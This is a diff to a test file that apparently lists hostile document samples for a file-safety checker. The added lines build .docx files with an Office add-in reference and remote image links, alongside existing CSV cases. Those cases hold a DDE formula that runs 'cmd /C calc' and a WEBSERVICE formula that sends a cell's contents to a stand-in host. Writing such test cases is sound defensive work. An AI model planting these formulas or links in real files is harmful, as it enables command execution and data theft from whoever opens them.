@@ -113,6 +113,22 @@ export const VARIATIONS: readonly Hostile[] = [
   ],
   ['web query.xlsx', () => connection('<webPr url="http://example.org"/>'), 'file-active link'],
   ['database.xlsx', () => connection('<dbPr connection="x" command="y"/>', 'refreshOnLoad="1"'), 'file-active link'],
+  [
+    'add-in.docx',
+    () =>
+      docxFile({
+        'word/webextensions/webextension1.xml': '<we:webextension><we:reference storeType="OMEX"/></we:webextension>',
+      }),
+    'file-active embedded',
+  ],
+  ...(['src', 'o:href'] as const).map(
+    (name): Hostile => [
+      `drawn ${name.replace(':', ' ')}.docx`,
+      () =>
+        docxFile({ 'word/document.xml': `<w:document><v:imagedata ${name}="http://example.org/a.png"/></w:document>` }),
+      'file-active link',
+    ],
+  ),
   // Of tables as text.
   ['dde.csv', () => bytes('=DDE("cmd";"/C calc";"x")\n'), 'file-active field'],
   ['service.csv', () => bytes('a,"=WEBSERVICE(""http://a.b/""&A1)"\n'), 'file-active field'],
